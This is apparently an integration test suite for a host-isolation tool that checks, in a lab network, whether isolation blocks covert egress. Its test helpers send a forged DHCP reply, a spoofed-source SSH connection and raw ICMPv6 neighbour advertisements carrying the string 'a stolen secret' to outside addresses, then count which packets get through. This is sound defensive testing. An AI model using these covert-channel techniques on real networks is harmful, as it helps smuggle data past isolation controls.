import { connect } from 'node:net';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { switchNamespace } from '../../../demo/lab/network';
import { runCommand } from '../../../demo/lab/run-command';
import { IsolationGate } from '../../../src/adapters/isolation/isolation-gate';
import { ISOLATION_PROGRAMS } from '../../../src/adapters/isolation/isolation-programs';
import { Isolations } from '../../../src/adapters/isolation/isolations';
import { actionId, CONTEXT, FIRST, LabWorld } from './support/lab-world';

/** A container on the host, behind a routed link, as container engines and virtual machines' networks make it. */
const CONTAINER = `
ip netns add inner
ip link add c0 type veth peer name eth0 netns inner
ip addr add 192.0.2.1/24 dev c0
ip addr add 2001:db8:c::1/64 dev c0 nodad
ip link set c0 up
ip -n inner link set lo up
ip -n inner link set eth0 up
ip -n inner addr add 192.0.2.2/24 dev eth0
ip -n inner addr add 2001:db8:c::2/64 dev eth0 nodad
ip -n inner route add default via 192.0.2.1
ip -n inner route add default via 2001:db8:c::1
`;

/** Counts what gets past the isolation, which sits earlier at the same hooks. */
const COUNTERS = `nft -f - <<'RULES'
add table inet probe
delete table inet probe
table inet probe {
  chain forward {
    type filter hook forward priority 300; policy accept;
    iifname "c0" udp sport 67 udp dport 68 counter
    iifname "c0" tcp dport 22 counter
    iifname "c0" icmpv6 type nd-neighbor-advert counter
  }
  chain output {
    type filter hook output priority 300; policy accept;
    ip6 daddr 2001:db8:a::/48 icmpv6 type nd-neighbor-advert counter
  }
}
RULES
`;

/** Sends a neighbour advertisement with a message in it to an address beyond the link: DESTINATION HOP-LIMIT. */
const ADVERTISE = `python3 -c '
import socket, struct, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
s.sendto(struct.pack("!BBHI16s", 136, 0, 0, 0, b"a stolen secret.") + b"more of it", (sys.argv[1], 0))
'`;

describe('ways around the isolation of a real host', () => {
  let world: LabWorld;
  let isolations: Isolations;
  let step = 0;

  beforeAll(async () => {
    world = await LabWorld.up(
      [
        { name: 'gw-1', role: 'gateway' },
        { name: 'web-1', role: 'host' },
      ],
      ISOLATION_PROGRAMS,
    );
    isolations = new Isolations(new IsolationGate(world.shell));
    await world.on(
      'web-1',
      `install -d -m 700 /root/.ssh; echo '${world.personPublicKey}' >/root/.ssh/authorized_keys; ${CONTAINER}`,
    );
    const settings = [
      'ipv4/ip_forward 1',
      'ipv6/conf/all/forwarding 1',
      ...['all', 'c0'].map((on) => `ipv4/conf/${on}/rp_filter 0`),
    ];
    await inside(
      `fbl-${world.lab.id}-web-1`,
      settings.map((line) => line.split(' ')).map(([path = '', value = '']) => `echo ${value} >/proc/sys/net/${path}`),
    );
  });
  afterAll(() => world.down());

  const inside = (namespace: string, commands: readonly string[]) =>
    runCommand('ip', ['netns', 'exec', namespace, 'sh', '-e', '-s'], { stdin: commands.join('\n') });

  async function isolated<T>(extraManagement: readonly string[], body: () => Promise<T>): Promise<T> {
    step += 1;
    const action = world.isolateHost(actionId(FIRST, 'isolate-host', 'web-1', `${step}`), {
      management: [...world.management, ...extraManagement],
    });
    // Root of the host knows them as well.
    for (const prefix of extraManagement) await world.on('web-1', `echo ${prefix} >>/etc/firebreak/management`);
    const result = await isolations.perform(world.host('web-1'), action, CONTEXT);
    expect(result).toMatchObject({ counts: { applied: 1 }, verified: true });
    try {
      return await body();
    } finally {
      expect((await isolations.undo(world.host('web-1'), action, CONTEXT)).counts.applied).toBe(1);
    }
  }

  /** Whether a session that says much comes to its end, from a station of a person beyond the router. */
  async function largeAnswer(source: string): Promise<boolean> {
    const session = world.lab.attacker.ssh({
      source,
      host: world.labHost('web-1'),
      user: 'root',
      identityFile: world.personKey,
      command: 'head -c 500000 /dev/zero',
    });
    const ended = await Promise.race([session.closed, sleep(15_000, 'stalled' as const, { ref: false })]);
    session.kill();
    return ended === 0;
  }

  describe('C3 nothing that a container sends is forwarded', () => {
    /** Packets past the isolation: a false DHCP answer, a forged management address to SSH, two neighbour advertisements. */
    async function leaving(): Promise<number[]> {
      const [outside4 = ''] = world.lab.attacker.addresses4(1);
      const [outside6 = ''] = world.lab.attacker.addresses6(1);
      const listing = await world.on(
        'web-1',
        `${COUNTERS}
        ip -n inner addr replace ${world.lab.management.address}/32 dev lo
        in_container() { ip netns exec inner "$@"; }
        in_container python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("192.0.2.2", 67))
s.sendto(b"a stolen secret", ("${outside4}", 68))
t = socket.socket()
t.settimeout(0.5)
t.bind(("${world.lab.management.address}", 0))
try: t.connect(("${outside4}", 22))
except OSError: pass
'
        in_container ${ADVERTISE} ${outside6}
        ${ADVERTISE} ${outside6}
        sleep 0.2
        nft list table inet probe`,
      );
      return [...listing.matchAll(/counter packets (\d+)/g)].map(([, packets]) => Math.min(1, Number(packets)));
    }

    it('and no neighbour advertisement of the host leaves its links, while management by IPv6 stays', async () => {
      expect(await leaving()).toEqual([1, 1, 1, 1]);
      await isolated([], async () => {
        expect(await leaving()).toEqual([0, 0, 0, 0]);
        await world.on('web-1', 'ip -6 neigh flush all');
        const socket = connect({ host: world.labHost('web-1').address6, port: 22, timeout: 3_000 });
        await once(socket, 'connect');
        socket.destroy();
      });
    });
  });

  describe('C3 management stays after the confirmation', () => {
    it('where a router must say that packets are too big', async () => {
      const sources = [world.lab.attacker.addresses4(1)[0]!, world.lab.attacker.addresses6(1)[0]!];
      await world.on('gw-1', 'ip link set wan0 mtu 1300');
      try {
        await isolated(sources, async () => {
          expect(await Promise.all(sources.map(largeAnswer))).toEqual([true, true]);
        });
      } finally {
        await world.on('gw-1', 'ip link set wan0 mtu 1500');
      }
    });

    it('behind a switch that sends multicast only to those who report that they listen', async () => {
      const [source = ''] = world.lab.attacker.addresses6(1);
      const snooping = (words: string) =>
        runCommand('ip', [
          '-n',
          switchNamespace(world.lab.id),
          'link',
          'set',
          'br0',
          'type',
          'bridge',
          ...words.split(' '),
        ]);
      await snooping(
        'mcast_query_interval 100 mcast_query_response_interval 50 mcast_startup_query_interval 100 mcast_membership_interval 300',
      );
      await snooping('mcast_snooping 1 mcast_querier 1');
      // Memberships from before the first query keep their old end, minutes away.
      await sleep(3_000);
      try {
        await isolated([source], async () => {
          await sleep(6_000);
          await world.on('gw-1', 'ip -6 neigh flush dev lan0');
          expect(await largeAnswer(source)).toBe(true);
        });
      } finally {
        await snooping('mcast_querier 0');
      }
    });
  });
});
